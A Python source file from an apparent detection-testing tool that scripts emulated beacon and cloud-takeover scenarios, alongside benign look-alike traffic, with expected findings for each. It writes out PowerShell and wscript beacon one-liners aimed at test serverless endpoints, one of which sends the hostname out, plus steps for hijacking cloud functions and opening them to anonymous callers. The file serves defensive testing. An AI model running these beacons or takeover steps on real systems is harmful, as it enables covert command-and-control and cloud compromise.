"""The emulated scenarios: the eight tests of the source pages, C2 framework profiles
through serverless front ends, and the benign look-alikes the sources warn about.

Each scenario describes what happens on its hosts once, in format-neutral terms (a
:class:`~relayhunt.emulate.model.Builder` script), and states the ground truth: the
findings it must raise (:class:`Expect`), those it must not (:class:`Forbid`) and the
allowlist an estate would keep for it (:class:`Allow`).

Hostnames follow the platforms' real forms. The sources' own test hostnames are used
where they are valid (``df00tech-sentinel-test.argustest.workers.dev``,
``us-central1-df00tech-argus-test.cloudfunctions.net``) and corrected where they are not:
a Lambda function URL is ``<32-char id>.lambda-url.<region>.on.aws``, never the seeds'
``...lambda-url.us-east-1.amazonaws.com`` (NXDOMAIN). Addresses are from each provider's
real ranges; every name, account and tenant is invented.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import numpy as np

from relayhunt.emulate import timing
from relayhunt.emulate.model import (
    Builder,
    CloudApiCall,
    Destination,
    Host,
    HttpRequest,
    Process,
)
from relayhunt.emulate.truth import Allow, Expect, Forbid
from relayhunt.emulate.writers.cloud import AZURE_CLI_APPID

# -- images ---------------------------------------------------------------------------------

EXPLORER = r"C:\Windows\explorer.exe"
SERVICES = r"C:\Windows\System32\services.exe"
SVCHOST = r"C:\Windows\System32\svchost.exe"
CMD = r"C:\Windows\System32\cmd.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
PWSH = r"C:\Program Files\PowerShell\7\pwsh.exe"
CURL = r"C:\Windows\System32\curl.exe"
WSCRIPT = r"C:\Windows\System32\wscript.exe"
TIMEOUT = r"C:\Windows\System32\timeout.exe"
RUNDLL32 = r"C:\Windows\System32\rundll32.exe"
NODE = r"C:\Program Files\nodejs\node.exe"
AWS_CLI = r"C:\Program Files\Amazon\AWSCLIV2\aws.exe"
CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
MSEDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
FIREFOX = r"C:\Program Files\Mozilla Firefox\firefox.exe"
OUTLOOK = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
WINWORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
TEAMS = r"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe"
RUNNER_LISTENER = r"C:\actions-runner\bin\Runner.Listener.exe"
RUNNER_WORKER = r"C:\actions-runner\bin\Runner.Worker.exe"
DATADOG = r"C:\Program Files\Datadog\Datadog Agent\bin\agent.exe"
VEEAM_SERVICE = r"C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Service.exe"
VEEAM_AGENT = r"C:\Program Files\Veeam\Endpoint Backup\VeeamAgent.exe"


def user_python(user: str) -> str:
    return rf"C:\Users\{user}\AppData\Local\Programs\Python\Python312\python.exe"


def onedrive(user: str) -> str:
    return rf"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe"


def temp(user: str, name: str) -> str:
    return rf"C:\Users\{user}\AppData\Local\Temp\{name}"


# -- destinations ---------------------------------------------------------------------------

AWS_PTR = "ec2-{dashed}.compute-1.amazonaws.com"
AWS_EU_PTR = "ec2-{dashed}.eu-west-1.compute.amazonaws.com"
GOOGLE_PTR = "lga25s{c}-in-f{d}.1e100.net"

WORKERS_BEACON = Destination(
    "c2-beacon-test.argustest.workers.dev", ("104.21.48.113", "172.67.182.25")
)
WORKERS_SENTINEL = Destination(
    "df00tech-sentinel-test.argustest.workers.dev", ("104.21.61.27", "172.67.140.92")
)
HTTPBIN = Destination(
    "httpbin.org", ("3.210.94.60", "52.206.94.205", "54.243.44.204"), ptr=AWS_PTR, ttl=60
)
LAMBDA_T2 = Destination(
    "k7x2m9q4v8w3n6p1r5t0y2u4i8o3a7s6.lambda-url.us-east-1.on.aws",
    ("3.208.65.21", "52.44.10.7", "54.210.3.99"),
    ptr=AWS_PTR,
    ttl=60,
)
LAMBDA_POLL = Destination(
    "q1w9e3r7t5y2u8i4o6p0a3s5d7f9g2h4.lambda-url.us-east-1.on.aws",
    ("44.207.169.12", "3.223.51.97"),
    ptr=AWS_PTR,
    ttl=60,
)
LAMBDA_API = Destination(
    "lambda.us-east-1.amazonaws.com", ("52.94.233.129", "52.94.227.22"), ttl=60
)
CF_API = Destination("api.cloudflare.com", ("104.19.192.29", "104.19.193.29"))
NPM_REGISTRY = Destination("registry.npmjs.org", ("104.16.24.34", "104.16.25.34"))
SCRIPT_GOOGLE = Destination("script.google.com", ("142.250.72.206",), ptr=GOOGLE_PTR)
SCRIPT_CONTENT = Destination(
    "script.googleusercontent.com",
    ("142.250.65.193",),
    cnames=("googlehosted.l.googleusercontent.com",),
    ptr=GOOGLE_PTR,
)
CLOUD_FUNCTION = Destination(
    "us-central1-df00tech-argus-test.cloudfunctions.net",
    ("216.239.36.54",),
    ptr="any-in-2436.1e100.net",
)
CS_REDIRECTOR = Destination("static-cdn.nimbus-ops.workers.dev", ("104.21.33.209", "172.67.155.61"))
SLIVER_LAMBDA = Destination(
    "m3k9d2q7x5v1c8b4n6z0w2e4r7t9y1u3.lambda-url.eu-central-1.on.aws",
    ("3.124.199.41", "18.157.83.120"),
    ptr="ec2-{dashed}.eu-central-1.compute.amazonaws.com",
    ttl=60,
)
MYTHIC_FUNCTION = Destination(
    "func-telemetry-sync.azurewebsites.net",
    ("20.119.0.30",),
    cnames=(
        "waws-prod-blu-411.sip.azurewebsites.windows.net",
        "waws-prod-blu-411-9e0c.eastus.cloudapp.azure.com",
    ),
)
HAVOC_RUN = Destination(
    "update-svc-7q2xkd3fpa-uc.a.run.app",
    ("216.239.32.53", "216.239.34.53", "216.239.36.53", "216.239.38.53"),
    ptr="any-in-{c}{d}.1e100.net",
)
PAGES_SITE = Destination("acme-docs.pages.dev", ("172.66.44.190", "172.66.47.66"))
VERCEL_SITE = Destination(
    "acme-portal.vercel.app", ("76.76.21.21",), cnames=("cname.vercel-dns.com",)
)
NETLIFY_SITE = Destination("status-page.netlify.app", ("75.2.60.5", "99.83.231.61"))
SUPABASE_API = Destination("qzjxkfwmblgtrnvy.supabase.co", ("104.18.38.10", "172.64.149.246"))
GOOGLE = Destination("www.google.com", ("142.250.80.36",), ptr=GOOGLE_PTR)
BING = Destination(
    "www.bing.com", ("13.107.21.200",), cnames=("www-www.bing.com.trafficmanager.net",)
)
NEWS = Destination("www.reuters.com", ("151.101.1.91", "151.101.65.91"))
SHAREPOINT = Destination(
    "acmecorp.sharepoint.com",
    ("52.104.11.12",),
    cnames=("acmecorp.sharepoint.com.spo-0004.spo-msedge.net",),
)
GHA_BROKER = Destination("broker.actions.githubusercontent.com", ("140.82.114.22",))
GHA_API = Destination("api.github.com", ("140.82.112.6",))
CI_DEPLOY_API = Destination(
    "9kq3zt7f2m.execute-api.eu-west-1.amazonaws.com",
    ("18.200.212.41", "34.249.101.17"),
    ptr=AWS_EU_PTR,
    ttl=60,
)
CI_PREVIEW = Destination(
    "acme-web-git-main-acme-corp.vercel.app", ("76.76.21.98",), cnames=("cname.vercel-dns.com",)
)
MON_FUNCTION = Destination(
    "acme-orders.azurewebsites.net",
    ("20.50.2.14",),
    cnames=("waws-prod-am2-513.sip.azurewebsites.windows.net",),
)
MON_LAMBDA = Destination(
    "p3v8n2c6x1z9m4b7q5w0e8r2t6y4u1i3.lambda-url.eu-west-1.on.aws",
    ("52.210.33.190", "54.77.12.4"),
    ptr=AWS_EU_PTR,
    ttl=60,
)
BACKUP_API = Destination(
    "b7m2x9k4qz.execute-api.eu-west-1.amazonaws.com",
    ("52.48.175.22", "63.34.101.5"),
    ptr=AWS_EU_PTR,
    ttl=60,
)
DEV_WORKER = Destination("acme-api.acme-eng.workers.dev", ("104.21.80.12", "172.67.201.40"))
DEV_LAMBDA = Destination(
    "d4f8h2j6k0l3z7x1c5v9b3n7m2q6w0e4.lambda-url.eu-west-1.on.aws",
    ("54.155.30.71", "34.251.8.220"),
    ptr=AWS_EU_PTR,
    ttl=60,
)
VERCEL_API = Destination("api.vercel.com", ("76.76.21.142",))
TEAMS_MAIN = Destination(
    "teams.microsoft.com",
    ("52.123.129.14",),
    cnames=("teams-office-com.s-0005.dc-msedge.net",),
    ttl=3600,
)
ONEDRIVE_SYNC = Destination(
    "g.live.com",
    ("13.107.42.12",),
    cnames=("g.msn.com", "g-msn-com-nsatc.trafficmanager.net"),
    ttl=3600,
)
OUTLOOK_SVC = Destination(
    "outlook.office365.com",
    ("52.97.146.162", "52.97.219.98"),
    cnames=("outlook.ha.office365.com",),
    ttl=3600,
)
OFFICE_CLIENT = Destination(
    "officeclient.microsoft.com", ("52.109.8.89",), cnames=("prod.configsvc1.live.com.akadns.net",)
)
NCSI = Destination(
    "www.msftconnecttest.com",
    ("23.215.0.136",),
    cnames=("www.msftconnecttest.com.edgekey.net", "e86303.dscx.akamaiedge.net"),
    port=80,
    tls=False,
    ttl=60,
)

PUBLIC_EGRESS = "198.51.100.23"
"""The estate's NAT address, as cloud audit logs see the hosts."""


# -- scenario model -------------------------------------------------------------------------


@dataclass(frozen=True)
class Scenario:
    name: str
    title: str
    kind: str
    """``adversary`` or ``benign``."""
    source: str
    summary: str
    build: Callable[[Builder], None]
    expect: tuple[Expect, ...] = ()
    forbid: tuple[Forbid, ...] = ()
    allow: tuple[Allow, ...] = ()
    clouds: tuple[str, ...] = ()
    """Cloud audit formats the scenario writes (``cloudtrail``, ``cloudflare-audit``,
    ``gcp-audit``, ``azure-activity``)."""
    deployers: tuple[str, ...] = ()
    """Principal globs the estate lists as deployers (the tuning file's top-level
    ``deployers``): the CI identities behind a benign scenario's cloud changes."""
    off_estate: str = ""
    """Why the scenario has no endpoint or network data at all (it happens where the
    estate has no sensor: a cloud provider's control plane, driven from outside); empty
    for every scenario that runs on the estate's hosts."""
    background: bool = True
    """Add the Microsoft 365 apps every workstation runs (:func:`m365_background`)."""


M365_IMAGES = ("ms-teams.exe", "onedrive.exe", "outlook.exe")


def m365_apps(b: Builder, h: Host, windows: list[tuple[float, float]]) -> None:
    """Teams, OneDrive and Outlook as every workstation runs them: started at logon, each
    opening a new connection to its service at a fixed interval while the user works
    (Teams every 5 minutes, OneDrive and Outlook every 10), the answers cached for an
    hour. Fleet-wide, periodic, and benign: the classic beacon look-alike."""
    if not windows:
        return
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    logon = windows[0][0]
    teams = b.process(
        h, TEAMS, f'"{TEAMS}" msteams:system-initiated', parent=explorer, t=logon + 8.0
    )
    od_image = onedrive(h.user)
    od = b.process(h, od_image, f'"{od_image}" /background', parent=explorer, t=logon + 9.5)
    outlook = b.process(h, OUTLOOK, f'"{OUTLOOK}" ', parent=explorer, t=logon + 14.0)
    for proc, dest, period, sizes in (
        (teams, TEAMS_MAIN, 300.0, ((1_500, 100), (2_400, 300))),
        (od, ONEDRIVE_SYNC, 600.0, ((900, 60), (1_700, 200))),
        (outlook, OUTLOOK_SVC, 600.0, ((1_200, 80), (3_500, 900))),
    ):
        for lo, hi in windows:
            times = timing.periodic_poller(period, lo + 20.0, hi, b.rng, jitter_s=period / 100)
            b.beacon(proc, dest, times.tolist(), sent=sizes[0], recv=sizes[1], dns="cache")


def m365_background(b: Builder, h: Host, until: float) -> None:
    """The M365 apps on a workstation during office hours (09:00-17:00 of the start
    day and of every later day up to ``until``)."""
    day = 86_400.0
    windows = []
    lo = b.start
    while lo < max(until, b.start + 1):
        windows.append((lo, lo + 8 * 3600.0))
        lo += day
    m365_apps(b, h, windows)


def _powershell_loop(b: Builder, h: Host, parent: Process, script: str, t: float) -> Process:
    ps = b.process(
        h,
        POWERSHELL,
        f'"{POWERSHELL}" -NoProfile -ExecutionPolicy Bypass -Command "{script}"',
        parent=parent,
        t=t,
    )
    b.script_block(ps, script, t + 0.45)
    return ps


def _first(times: np.ndarray, n: int) -> list[float]:
    if times.size < n:
        raise ValueError(f"timing produced {times.size} check-ins, need {n}")
    return [float(x) for x in times[:n]]


# -- the source pages' tests ----------------------------------------------------------------


def _t1584_beacon_workers(b: Builder) -> None:
    h = b.host("WS-FIN-07", "10.20.7.41", "alice")
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    url = f"https://{WORKERS_BEACON.domain}/api/v1/beat"
    script = (
        "1..15 | ForEach-Object { Invoke-WebRequest -UseBasicParsing -Uri '"
        + url
        + "' | Out-Null; Start-Sleep -Seconds 30 }"
    )
    ps = _powershell_loop(b, h, explorer, script, b.at(12.0))
    times = timing.sleep_jitter(30.0, 0.03, ps.start + 0.8, ps.start + 30 * 17, b.rng)
    b.beacon(ps, WORKERS_BEACON, _first(times, 15), sent=(420, 12), recv=(1_180, 35))


def _t1584_beacon_httpbin(b: Builder) -> None:
    h = b.host("WS-FIN-08", "10.20.7.52", "brian")
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    script = (
        "1..15 | ForEach-Object { Invoke-WebRequest -UseBasicParsing -Uri "
        "'https://httpbin.org/get' | Out-Null; Start-Sleep -Seconds 30 }"
    )
    ps = _powershell_loop(b, h, explorer, script, b.at(20.0))
    times = timing.sleep_jitter(30.0, 0.03, ps.start + 0.8, ps.start + 30 * 17, b.rng)
    b.beacon(ps, HTTPBIN, _first(times, 15), sent=(390, 10), recv=(620, 20))


def _t1584_lambda_post(b: Builder) -> None:
    h = b.host("WS-ENG-21", "10.20.12.61", "bob")
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    url = f"https://{LAMBDA_T2.domain}/"
    script = (
        "1..5 | ForEach-Object { Invoke-RestMethod -Method Post -Uri '"
        + url
        + "' -ContentType 'application/json' -Body (@{host=$env:COMPUTERNAME; seq=$_} "
        "| ConvertTo-Json); Start-Sleep -Seconds 10 }"
    )
    ps = _powershell_loop(b, h, explorer, script, b.at(30.0))
    times = timing.sleep_jitter(10.0, 0.05, ps.start + 0.9, ps.start + 10 * 7, b.rng)
    b.beacon(ps, LAMBDA_T2, _first(times, 5), sent=(410, 18), recv=(260, 12))


def _t1584_aws_cli(b: Builder) -> None:
    h = b.host("WS-LAB-02", "10.20.40.12", "dave")
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    cmd = b.process(h, CMD, f'"{CMD}" ', parent=explorer, t=b.at(40.0))
    account, region, fn = "111122223333", "us-east-1", "df00tech-argus-test"
    arn = f"arn:aws:lambda:{region}:{account}:function:{fn}"
    ua = (
        "aws-cli/2.17.20 md/awscrt#0.20.11 ua/2.0 os/windows#10 md/arch#amd64 "
        "lang/python#3.11.9 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe "
        "md/prompt#off md/command#lambda.{}"
    )
    steps = (
        (
            70.0,
            f"aws lambda list-functions --region {region}",
            "ListFunctions20150331",
            None,
            True,
            False,
            "list-functions",
        ),
        (
            118.0,
            f"aws lambda invoke --function-name {fn} --region {region} "
            '--cli-binary-format raw-in-base64-out --payload "{\\"probe\\":1}" out.json',
            "Invoke",
            {"functionName": arn},
            False,
            True,
            "invoke",
        ),
    )
    for offset, line, action, request, read_only, data_event, command in steps:
        t = b.at(offset)
        aws = b.process(h, AWS_CLI, line, parent=cmd, t=t)
        b.lookup(aws, LAMBDA_API, t + 0.35)
        b.connect(aws, LAMBDA_API, t + 0.4, sent=1_650, recv=2_900 if read_only else 640)
        b.cloud_call(
            CloudApiCall(
                t=t + 0.6,
                cloud="aws",
                service="lambda.amazonaws.com",
                action=action,
                actor="lab-tester",
                actor_id="AIDAJ45Q7YFFAREXAMPLE",
                account=account,
                region=region,
                source_ip=PUBLIC_EGRESS,
                user_agent=ua.format(command),
                resource=arn if data_event else None,
                request=request,
                read_only=read_only,
                data_event=data_event,
            )
        )


def _t1584_wrangler(b: Builder) -> None:
    h = b.host("WS-DEV-07", "10.20.33.17", "kim")
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    cwd = r"C:\Users\kim\src\df00tech-relay\\"
    cmd = b.process(
        h,
        CMD,
        f'"{CMD}" /c "npx wrangler deploy --name df00tech-relay"',
        parent=explorer,
        t=b.at(50.0),
        cwd=cwd,
    )
    npx = b.process(
        h,
        NODE,
        f'"{NODE}" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npx-cli.js" '
        "wrangler deploy --name df00tech-relay",
        parent=cmd,
        t=b.at(50.3),
        cwd=cwd,
    )
    b.lookup(npx, NPM_REGISTRY, b.at(51.0))
    b.connect(npx, NPM_REGISTRY, b.at(51.05), sent=1_900, recv=48_000)
    wrangler = b.process(
        h,
        NODE,
        f'"{NODE}" --no-warnings --experimental-vm-modules '
        "C:\\Users\\kim\\AppData\\Local\\npm-cache\\_npx\\32026684e21afda6\\node_modules\\"
        "wrangler\\wrangler-dist\\cli.js deploy --name df00tech-relay",
        parent=npx,
        t=b.at(54.0),
        cwd=cwd,
    )
    b.lookup(wrangler, CF_API, b.at(55.0))
    for i, (sent, recv) in enumerate(((900, 2_400), (1_100, 3_100), (14_800, 2_200), (950, 1_300))):
        b.connect(wrangler, CF_API, b.at(55.05 + 1.7 * i), sent=sent, recv=recv)
    for action, offset in (("create", 60.2),):
        b.cloud_call(
            CloudApiCall(
                t=b.at(offset),
                cloud="cloudflare",
                service="workers",
                action=action,
                actor="j.doe.contractor@gmail.com",
                actor_id="8d2f1c0b7a6e5d4c3b2a19f8e7d6c5b4",
                account="5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d",
                region="",
                source_ip=PUBLIC_EGRESS,
                user_agent="wrangler/3.84.1",
                resource="df00tech-relay",
                request={"main_module": "index.js", "compatibility_date": "2026-10-01"},
                read_only=False,
                description="Upload Worker script",
            )
        )


# -- cloud control plane: Google Cloud and Azure (issue 6) ----------------------------------

GCP_PROJECT, GCP_REGION = "acme-payments-prod", "us-central1"
GCP_HIJACKED = "invoice-export"
GCP_CI_FUNCTION = "orders-webhook"
GCP_FUNCTIONS_V1 = "google.cloud.functions.v1.CloudFunctionsService."
AZ_SUBSCRIPTION = "6c1f0e9d-2b3a-4c5d-8e7f-90a1b2c3d4e5"
AZ_HIJACKED = "acme-invoice-func"
AZ_CI_SITE = "acme-orders-func"
AZ_REPORTS_SITE = "acme-reports-func"
AZ_DEVOPS_APPID = "3f9a7c2e-1d4b-4e6f-8a0c-5b7d9e1f2a3c"
"""The Azure DevOps pipeline's service principal (its application id)."""
AZURE_PORTAL_APPID = "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"
"""The Azure portal's first-party application id, as the token's ``appid`` claim."""
ATTACKER_IP = "203.0.113.45"
"""An address the estate's principals never used (TEST-NET-3)."""
OFF_ESTATE_ATTACKER = (
    "the principal works from outside the estate: only the cloud provider's audit log sees it"
)
OFF_ESTATE_CI = (
    "the deployments run on the CI provider's hosted runners, outside the estate's sensors"
)


def _gcp_function(name: str) -> str:
    return f"projects/{GCP_PROJECT}/locations/{GCP_REGION}/functions/{name}"


def _gcloud_ua(command: str, invocation: str, *, script: bool, env: str = "None") -> str:
    return (
        f"google-cloud-sdk gcloud/502.0.0 command/gcloud.functions.{command} "
        f"invocation-id/{invocation} environment/{env} environment-version/None "
        "client-os/LINUX client-os-ver/6.8.0 client-pltf-arch/x86_64 "
        f"interactive/{not script} from-script/{script} python/3.12.7 term/xterm-256color "
        "(Linux 6.8.0),gzip(gfe)"
    )


def _gcp_update_request(name: str, upload: str, entry: str) -> dict[str, object]:
    return {
        "@type": "type.googleapis.com/google.cloud.functions.v1.UpdateFunctionRequest",
        "function": {
            "name": _gcp_function(name),
            "sourceUploadUrl": f"https://storage.googleapis.com/uploads-482913765021."
            f"{GCP_REGION}.cloudfunctions.appspot.com/{upload}.zip",
            "entryPoint": entry,
            "runtime": "python312",
            "httpsTrigger": {"securityLevel": "SECURE_ALWAYS"},
            "availableMemoryMb": 256,
            "timeout": "60s",
        },
        "updateMask": "sourceUploadUrl,entryPoint,runtime,httpsTrigger",
    }


def _gcp_function_hijack(b: Builder) -> None:
    """An outside account updates a Cloud Function's code with gcloud, then opens it to
    the internet (allUsers roles/cloudfunctions.invoker)."""
    actor = "r.vance.ext@gmail.com"
    res = _gcp_function(GCP_HIJACKED)
    t = b.at(1_800.0)
    b.cloud_call(
        CloudApiCall(
            t=t,
            cloud="gcp",
            service="cloudfunctions.googleapis.com",
            action=GCP_FUNCTIONS_V1 + "UpdateFunction",
            actor=actor,
            actor_id="",
            account=GCP_PROJECT,
            region=GCP_REGION,
            source_ip=ATTACKER_IP,
            user_agent=_gcloud_ua("deploy", "5e0c1a2b", script=False),
            resource=res,
            request=_gcp_update_request(
                GCP_HIJACKED, "3f6d2a90-7c1e-4b8a-9d25-0e4f6a7b8c91", "main"
            ),
            read_only=False,
        )
    )
    binding = {"role": "roles/cloudfunctions.invoker", "members": ["allUsers"]}
    etag = "BwYk3xRq0s8="
    b.cloud_call(
        CloudApiCall(
            t=t + 96.4,
            cloud="gcp",
            service="cloudfunctions.googleapis.com",
            action=GCP_FUNCTIONS_V1 + "SetIamPolicy",
            actor=actor,
            actor_id="",
            account=GCP_PROJECT,
            region=GCP_REGION,
            source_ip=ATTACKER_IP,
            user_agent=_gcloud_ua("add-iam-policy-binding", "9a7b6c5d", script=False),
            resource=res,
            request={
                "@type": "type.googleapis.com/google.iam.v1.SetIamPolicyRequest",
                "resource": res,
                "policy": {"bindings": [binding], "etag": etag},
            },
            read_only=False,
            extra={
                "response": {
                    "@type": "type.googleapis.com/google.iam.v1.Policy",
                    "bindings": [binding],
                    "etag": "BwYk3xV1Jq4=",
                },
                "serviceData": {
                    "@type": "type.googleapis.com/google.iam.v1.logging.AuditData",
                    "policyDelta": {
                        "bindingDeltas": [
                            {
                                "action": "ADD",
                                "role": "roles/cloudfunctions.invoker",
                                "member": "allUsers",
                            }
                        ]
                    },
                },
            },
        )
    )


def _gcp_ci_deploys(b: Builder) -> None:
    """The CI service account (GitHub Actions through workload identity federation)
    redeploys its function once a day for five days, each time from another
    GitHub-hosted runner address."""
    sa = f"gha-deployer@{GCP_PROJECT}.iam.gserviceaccount.com"
    subject = (
        "principal://iam.googleapis.com/projects/482913765021/locations/global/"
        "workloadIdentityPools/github/subject/repo:acme/orders-webhook:ref:refs/heads/main"
    )
    for day in range(5):
        t = b.at(day * 86_400.0 + 2_400.0 + float(b.rng.uniform(0, 1_200)))
        runner_ip = f"20.{57 + day}.{int(b.rng.integers(1, 255))}.{int(b.rng.integers(1, 255))}"
        b.cloud_call(
            CloudApiCall(
                t=t,
                cloud="gcp",
                service="cloudfunctions.googleapis.com",
                action=GCP_FUNCTIONS_V1 + "UpdateFunction",
                actor=sa,
                actor_id="",
                account=GCP_PROJECT,
                region=GCP_REGION,
                source_ip=runner_ip,
                user_agent=_gcloud_ua(
                    "deploy",
                    hex(int(b.rng.integers(1 << 28, 1 << 32)))[2:],
                    script=True,
                    env="GitHub_Actions",
                ),
                resource=_gcp_function(GCP_CI_FUNCTION),
                request=_gcp_update_request(
                    GCP_CI_FUNCTION, f"gha-{day:02d}-orders-webhook", "handle_order"
                ),
                read_only=False,
                extra={
                    "authenticationInfo": {
                        "serviceAccountDelegationInfo": [{"principalSubject": subject}]
                    }
                },
            )
        )


def _az_site(name: str, rg: str) -> str:
    return (
        f"/subscriptions/{AZ_SUBSCRIPTION}/resourceGroups/{rg}/providers/Microsoft.Web/sites/{name}"
    )


def _az_call(
    t: float,
    op: str,
    resource: str,
    actor: str,
    actor_id: str,
    ip: str,
    appid: str,
    request: dict[str, Any] | None = None,
) -> CloudApiCall:
    return CloudApiCall(
        t=t,
        cloud="azure",
        service="Microsoft.Web",
        action=op,
        actor=actor,
        actor_id=actor_id,
        account=AZ_SUBSCRIPTION,
        region="global",
        source_ip=ip,
        user_agent="",
        resource=resource,
        request=request,
        read_only=op.endswith("/list/action"),
        extra={"appid": appid},
    )


def _azure_function_zipdeploy(b: Builder) -> None:
    """A user who never deploys runs ``az functionapp deployment source config-zip``
    from a new address (run-from-package on a Linux Consumption app: app settings read,
    WEBSITE_RUN_FROM_PACKAGE written, triggers synced; the zip itself goes to blob
    storage and Kudu, which the Activity Log does not see), then ``az functionapp
    function keys set`` writes a new function key."""
    site = _az_site(AZ_HIJACKED, "rg-payments")
    actor, oid = "d.keller@acmecorp.onmicrosoft.com", "7d3e9a41-5b2c-4f80-a6e1-3c9b8d7f2e05"
    t = b.at(5_400.0)
    for offset, op, res in (
        (0.0, "Microsoft.Web/sites/config/list/action", f"{site}/config/appsettings"),
        (41.3, "Microsoft.Web/sites/config/write", f"{site}/config/appsettings"),
        (44.8, "Microsoft.Web/sites/syncfunctiontriggers/action", site),
        (
            131.0,
            "Microsoft.Web/sites/functions/keys/write",
            f"{site}/functions/ExportInvoices/keys/ops-debug",
        ),
    ):
        b.cloud_call(_az_call(t + offset, op, res, actor, oid, ATTACKER_IP, AZURE_CLI_APPID))


def _azure_function_anonymous(b: Builder) -> None:
    """With a developer's stolen session, the attacker adds an HTTP function with
    ``authLevel`` ``anonymous`` to a Function App (``az functionapp function`` has no
    create verb: a PUT of ``sites/functions/<name>`` from the portal or the REST API),
    then allows every browser origin (``az functionapp cors add --allowed-origins '*'``,
    a write of ``sites/config/web``). The Activity Log records each request body on the
    operation's Start entry only; the Success entry says it took effect."""
    site = _az_site(AZ_REPORTS_SITE, "rg-reports")
    actor, oid = "s.nakamura@acmecorp.onmicrosoft.com", "2b8f6d1e-94a3-4c7b-b0e5-6f1a3d9c8e27"
    t = b.at(7_200.0)
    function = {
        "properties": {
            "config": {
                "bindings": [
                    {
                        "authLevel": "anonymous",
                        "type": "httpTrigger",
                        "direction": "in",
                        "name": "req",
                        "methods": ["get", "post"],
                    },
                    {"type": "http", "direction": "out", "name": "res"},
                ]
            },
            "files": {"index.js": "module.exports = async function (context, req) { ... }"},
        }
    }
    cors = {"properties": {"cors": {"allowedOrigins": ["*"], "supportCredentials": False}}}
    for offset, op, res, body in (
        (0.0, "Microsoft.Web/sites/functions/write", f"{site}/functions/healthz", function),
        (58.2, "Microsoft.Web/sites/config/write", f"{site}/config/web", cors),
    ):
        b.cloud_call(
            _az_call(t + offset, op, res, actor, oid, ATTACKER_IP, AZURE_PORTAL_APPID, body)
        )


def _azure_devops_deploys(b: Builder) -> None:
    """The Azure DevOps pipeline's service principal (workload identity federation)
    deploys the orders Function App once a day for five days, from Microsoft-hosted
    agents: app settings written, triggers synced."""
    site = _az_site(AZ_CI_SITE, "rg-orders")
    appid, oid = AZ_DEVOPS_APPID, "c8e2f4a6-0b1d-4c3e-9f5a-7d6b8e0a1c2f"
    for day in range(5):
        t = b.at(day * 86_400.0 + 3_000.0 + float(b.rng.uniform(0, 1_800)))
        agent = f"20.{42 + day}.{int(b.rng.integers(1, 255))}.{int(b.rng.integers(1, 255))}"
        for offset, op, res in (
            (0.0, "Microsoft.Web/sites/config/write", f"{site}/config/appsettings"),
            (38.5, "Microsoft.Web/sites/syncfunctiontriggers/action", site),
        ):
            b.cloud_call(_az_call(t + offset, op, res, appid, oid, agent, appid))


def _t1583_powershell_workers(b: Builder) -> None:
    h = b.host("WS-FIN-09", "10.20.7.63", "carol")
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    url = f"https://{WORKERS_SENTINEL.domain}/beacon"
    script = (
        "for ($i = 0; $i -lt 5; $i++) { try { Invoke-WebRequest -UseBasicParsing -Uri '"
        + url
        + "' -TimeoutSec 10 | Out-Null } catch {}; Start-Sleep -Seconds 10 }"
    )
    ps = _powershell_loop(b, h, explorer, script, b.at(25.0))
    times = timing.sleep_jitter(10.0, 0.05, ps.start + 0.9, ps.start + 10 * 7, b.rng)
    b.beacon(ps, WORKERS_SENTINEL, _first(times, 5), sent=(380, 10), recv=(950, 30))


def _t1583_python_lambda(b: Builder) -> None:
    h = b.host("WS-ENG-14", "10.20.12.44", "dave")
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    py = user_python("dave")
    url = f"https://{LAMBDA_POLL.domain}/"
    script = temp("dave", "poll_lambda.py")
    args = f"{script} --url {url} --interval 30 --count 20"
    cmd = b.process(h, CMD, f'"{CMD}" /c python.exe {args}', parent=explorer, t=b.at(35.0))
    proc = b.process(h, py, f'"{py}" {args}', parent=cmd, t=b.at(35.2))
    times = timing.additive_jitter(30.0, 0.6, proc.start + 0.5, proc.start + 31 * 22, b.rng)
    b.beacon(proc, LAMBDA_POLL, _first(times, 20), sent=(310, 8), recv=(220, 10))


def _t1583_wscript(b: Builder) -> None:
    h = b.host("WS-HR-03", "10.20.21.33", "erin")
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    js = temp("erin", "df00tech_gapps_test.js")
    exec_url = f"https://{SCRIPT_GOOGLE.domain}/macros/s/AKfycbx7Qd2R1pL9vWm4nZt8Hs3Kc6Yb0Ue5Fj2Ag1Xo9Ti/exec"
    body = (
        "var x=new ActiveXObject('MSXML2.ServerXMLHTTP.6.0');x.open('GET','"
        + exec_url
        + "?h=ws-hr-03',false);x.send();WScript.Echo(x.status);"
    )
    cmd = b.process(
        h,
        CMD,
        f'"{CMD}" /c "echo {body} > %TEMP%\\df00tech_gapps_test.js '
        '&& wscript.exe %TEMP%\\df00tech_gapps_test.js"',
        parent=explorer,
        t=b.at(45.0),
    )
    b.write_file(cmd, js, b.at(45.1))
    ws = b.process(h, WSCRIPT, f"wscript.exe  {js}", parent=cmd, t=b.at(45.4))
    b.lookup(ws, SCRIPT_GOOGLE, b.at(45.9))
    b.connect(ws, SCRIPT_GOOGLE, b.at(45.95), sent=720, recv=1_050)
    b.lookup(ws, SCRIPT_CONTENT, b.at(46.6))
